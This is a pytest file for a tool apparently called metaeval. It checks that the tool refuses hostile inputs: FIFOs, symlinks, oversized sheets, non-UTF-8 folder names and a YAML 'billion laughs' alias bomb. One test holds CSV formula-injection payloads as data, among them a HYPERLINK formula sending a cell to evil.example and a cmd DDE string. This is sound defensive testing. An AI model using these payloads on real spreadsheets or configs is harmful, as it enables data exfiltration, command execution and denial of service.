"""Files metaeval reads that someone else made: each attack is made for real and refused.

- A run's review sheet (`review.csv`) that is a FIFO, a link to ``/dev/zero`` or a link to a
  CSV outside the run: `audit review`, `audit score` and the viewer refuse it with an error
  naming the file (the viewer shows the run, saying the sheet cannot be read) and never hang.
- A gold file (`audit score --gold`) or a patch (`improve check-patch`) that is a FIFO or a
  link to ``/dev/zero``: refused at once, naming the file.
- Finding titles a spreadsheet would run as formulas are written to `review.csv` with a
  leading ``'`` and read back unchanged.
- A YAML "billion laughs" of under a kilobyte in a build-and-find config: `buildfind plan` and
  `buildfind run` refuse it naming the file, before anything runs.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from metaeval.config_files import parse_yaml
from metaeval.errors import ConfigError
from metaeval.protocols.audit.findings import Evidence, Finding
from metaeval.protocols.audit.review import finding_id, read_sheet, write_review

ROOT = Path(__file__).resolve().parents[1]
BENCH = ROOT / "examples" / "audit-bench"
HOSTILE = ("fifo", "dev-zero", "outside")
SAYS = {"fifo": "is a FIFO", "dev-zero": "is a symbolic link", "outside": "is a symbolic link"}
# a guard, not a measurement: today's code blocks on the FIFO for ever
NO_HANG_S = 300


def cli(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "metaeval.cli", *args],
        capture_output=True,
        text=True,
        timeout=NO_HANG_S,
        stdin=subprocess.DEVNULL,
        cwd=cwd,
    )


def plant(path: Path, kind: str, outside: Path) -> None:
    """Put a FIFO, a link to /dev/zero or a link to `outside` where `path` is read."""
    if path.exists() or path.is_symlink():
        path.unlink()
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "dev-zero":
        path.symlink_to("/dev/zero")
    else:
        path.symlink_to(outside)


@pytest.fixture(scope="module")
def audited(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Static checks on two seeded tasks, with a review sheet written."""
    run = tmp_path_factory.mktemp("hostile-review") / "a"
    done = cli(
        "audit", "run", str(BENCH), "--static-only", "-o", str(run),
        "--task", "sales-revenue", "--task", "row-count",
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    done = cli("audit", "review", str(run))
    assert done.returncode == 0, done.stderr
    return run


@pytest.fixture
def run(audited: Path, tmp_path: Path) -> Path:
    copy = tmp_path / "a"
    shutil.copytree(audited, copy)
    return copy


def confirmed_copy(run: Path, where: Path) -> Path:
    """A copy of the run's sheet outside it, every finding confirmed (what a link would count)."""
    with open(run / "review.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert rows
    with open(where, "w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows({**r, "verdict": "confirmed"} for r in rows)
    return where


# ------------------------------------------------------------------------- the review sheet


@pytest.mark.bwrap
@pytest.mark.parametrize("kind", HOSTILE)
def test_audit_review_and_score_refuse_a_sheet_that_is_no_regular_file(
    run: Path, tmp_path: Path, kind: str
) -> None:
    sheet = run / "review.csv"
    plant(sheet, kind, confirmed_copy(run, tmp_path / "outside.csv"))
    for argv in (
        ["audit", "review", str(run)],
        ["audit", "review", str(run), "--to-gold", str(tmp_path / "gold.json")],
        ["audit", "score", str(run), "--gold", str(BENCH / "gold.json"), "--judge", "category"],
    ):
        done = cli(*argv)
        assert done.returncode == 2, (argv, done.stdout, done.stderr)
        assert f"{sheet}: {SAYS[kind]}" in done.stderr, (argv, done.stderr)
    assert not (tmp_path / "gold.json").exists()
    assert (sheet.is_symlink() or sheet.is_fifo()) and not (run / "score.json").exists()


@pytest.mark.bwrap
@pytest.mark.parametrize("kind", HOSTILE)
def test_the_viewer_shows_a_run_whose_sheet_is_no_regular_file_as_unreadable(
    run: Path, tmp_path: Path, kind: str
) -> None:
    from test_view import start_viewer, stop

    plant(run / "review.csv", kind, confirmed_copy(run, tmp_path / "outside.csv"))
    viewer = start_viewer(str(run.parent))
    try:
        rid = viewer.run_id("a")  # the runs list answers (today it blocks on the FIFO)
        page = viewer.page(f"/run/{rid}")
        assert "The review sheet cannot be read" in page and SAYS[kind] in page
        assert "confirmed" not in page.split("The review sheet cannot be read")[0][-2000:]
        assert viewer.proc.poll() is None
    finally:
        stop(viewer)


@pytest.mark.bwrap
@pytest.mark.parametrize("kind", HOSTILE)
def test_audit_report_refuses_a_score_file_that_is_no_regular_file(
    run: Path, tmp_path: Path, kind: str
) -> None:
    outside = tmp_path / "score.json"
    outside.write_text("{}")
    plant(run / "score.json", kind, outside)
    done = cli("audit", "report", str(run))
    assert done.returncode == 2, done.stdout + done.stderr
    assert f"{run / 'score.json'}: {SAYS[kind]}" in done.stderr


def test_read_sheet_refuses_a_sheet_larger_than_its_cap(tmp_path: Path, monkeypatch) -> None:
    from metaeval.protocols.audit import review

    path = tmp_path / "review.csv"
    with open(path, "wb") as handle:
        handle.truncate(2048)  # sparse: nothing of it is written to disk
    monkeypatch.setattr(review, "MAX_SHEET_BYTES", 1024)
    with pytest.raises(ConfigError, match="larger than 1024 bytes") as err:
        read_sheet(path)
    assert str(path) in str(err.value)


def hostile_finding(title: str, task: str = "t1") -> Finding:
    return Finding(
        task_id=task,
        category="ENV",
        subcategory="ENV-PATH",
        severity="High",
        finding_type="Bug",
        title=title,
        description="d",
        evidence=[Evidence(file="solution/solve.sh", line_start=1, line_end=1, snippet="x")],
        confidence=0.9,
        source="m/a",
        protocol="definition",
    )


def test_review_sheet_cells_never_start_a_formula_and_read_back_unchanged(tmp_path) -> None:
    titles = [
        '=HYPERLINK("http://evil.example/?"&A1,"open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "'already quoted",
        "plain title",
    ]
    findings = [hostile_finding(t, f"t{i}") for i, t in enumerate(titles)]
    path, rows = write_review(tmp_path, findings)
    with open(path, newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"open")' in cells
    back = {r.finding_id: r.title for r in read_sheet(path)}
    assert back == {finding_id(f): f.title for f in findings}
    # a verdict given in a spreadsheet survives the next write (the quote does not pile up)
    write_review(tmp_path, findings)
    assert {r.title for r in read_sheet(path)} == set(titles)


# ------------------------------------------------------------------- files named by the user


@pytest.mark.bwrap
@pytest.mark.parametrize("kind", ["fifo", "dev-zero"])
def test_audit_score_refuses_a_gold_file_that_is_no_regular_file(
    run: Path, tmp_path: Path, kind: str
) -> None:
    gold = tmp_path / "gold.json"
    plant(gold, kind, BENCH / "gold.json")
    done = cli("audit", "score", str(run), "--gold", str(gold), "--judge", "category")
    assert done.returncode == 2, done.stdout + done.stderr
    expected = "is a FIFO" if kind == "fifo" else "is a device"
    assert f"{gold}: {expected}, not a regular file" in done.stderr
    assert not (run / "score.json").exists()


@pytest.mark.parametrize("kind", ["fifo", "dev-zero"])
def test_check_patch_refuses_a_patch_or_boundary_that_is_no_regular_file(
    tmp_path: Path, kind: str
) -> None:
    boundary = tmp_path / "boundary.json"
    boundary.write_text(json.dumps({"mutable_root": "target_agent", "allowed_paths": ["."]}))
    patch = tmp_path / "change.patch"
    plant(patch, kind, patch)
    expected = "is a FIFO" if kind == "fifo" else "is a device"
    done = cli("improve", "check-patch", "--boundary", str(boundary), str(patch))
    assert done.returncode == 2, done.stdout + done.stderr
    assert f"{patch}: {expected}, not a regular file" in done.stderr
    other = tmp_path / "other.json"
    plant(other, kind, other)
    patch.unlink()
    patch.write_text("diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n")
    done = cli("improve", "check-patch", "--boundary", str(other), str(patch))
    assert done.returncode == 2, done.stdout + done.stderr
    assert f"{other}: {expected}, not a regular file" in done.stderr


# ------------------------------------------------------------------------------ YAML aliases


def alias_bomb(levels: int = 9) -> str:
    """The "billion laughs": each level is ten aliases of the one before (10**levels)."""
    lines = ['      l0: &l0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, levels + 1):
        lines.append(f"      l{i}: &l{i} [" + ",".join([f"*l{i - 1}"] * 10) + "]")
    return "\n".join(lines) + "\n"


def test_parse_yaml_bounds_alias_expansion_but_keeps_ordinary_aliases() -> None:
    from metaeval.config_files import MAX_ALIAS_NODES

    bomb = "model_options:\n" + alias_bomb()
    assert len(bomb.encode()) < 1024
    with pytest.raises(ConfigError, match="aliases expand") as err:
        parse_yaml(bomb, "bomb.yaml")
    assert str(err.value).startswith("bomb.yaml: ")
    # aliases that add a bounded number of values are kept
    small = "base: &b {x: 1, y: [1, 2]}\none: *b\ntwo: *b\n"
    assert parse_yaml(small, "ok.yaml") == {"base": {"x": 1, "y": [1, 2]}} | {
        "one": {"x": 1, "y": [1, 2]},
        "two": {"x": 1, "y": [1, 2]},
    }
    just_over = "a: &a [" + ",".join(["1"] * 1000) + "]\nb: [" + ",".join(["*a"] * 101) + "]\n"
    assert MAX_ALIAS_NODES < 101 * 1001
    with pytest.raises(ConfigError, match="aliases expand"):
        parse_yaml(just_over, "over.yaml")
    with pytest.raises(ConfigError, match="refers to itself"):
        parse_yaml("a: &a [1, *a]\n", "loop.yaml")


@pytest.mark.parametrize("command", ["plan", "run"])
def test_buildfind_refuses_an_alias_bomb_before_anything_runs(tmp_path: Path, command: str) -> None:
    config = tmp_path / "bomb.yaml"
    config.write_text(
        f"pack: {ROOT / 'examples' / 'buildfind-pack'}\n"
        "tasks: [kvstore-wal]\n"
        "builders:\n"
        '  - {name: documented, agent: "reference:documented", family: reference}\n'
        "finders:\n"
        "  - name: ref-finder\n"
        "    agent: reference-finder\n"
        "    model_options:\n" + alias_bomb()
    )
    argv = ["buildfind", command, str(config)]
    if command == "run":
        argv += ["-o", str(tmp_path / "out")]
    done = cli(*argv, cwd=tmp_path)
    assert done.returncode == 2, done.stdout + done.stderr
    assert f"{config}: YAML aliases expand to more than" in done.stderr
    assert not (tmp_path / "out").exists()


# ------------------------------------------------------------------------------ the benchmark


@pytest.mark.bwrap
def test_a_folder_whose_name_is_not_utf8_is_skipped_with_a_warning(tmp_path: Path) -> None:
    bench = tmp_path / "bench"
    for task in ("sales-revenue", "row-count"):
        shutil.copytree(BENCH / task, bench / task)
    shutil.copytree(os.fsencode(BENCH / "row-count"), os.fsencode(bench) + b"/bad\xff")
    run_dir = tmp_path / "run"
    done = cli("audit", "run", str(bench), "--static-only", "--no-execution", "-o", str(run_dir))
    assert done.returncode == 0, done.stdout + done.stderr
    assert "warning: folder bad\\xff skipped: folder name is not UTF-8" in done.stdout
    assert "findings on 2 tasks" in done.stdout and (run_dir / "report.md").is_file()
    summary = json.loads((run_dir / "summary.json").read_text())
    assert [
        summary["skipped_dirs"][0][0],
        summary["skipped_dirs"][0][1].split(" (")[0],
    ] == ["bad\\xff", "folder name is not UTF-8"]
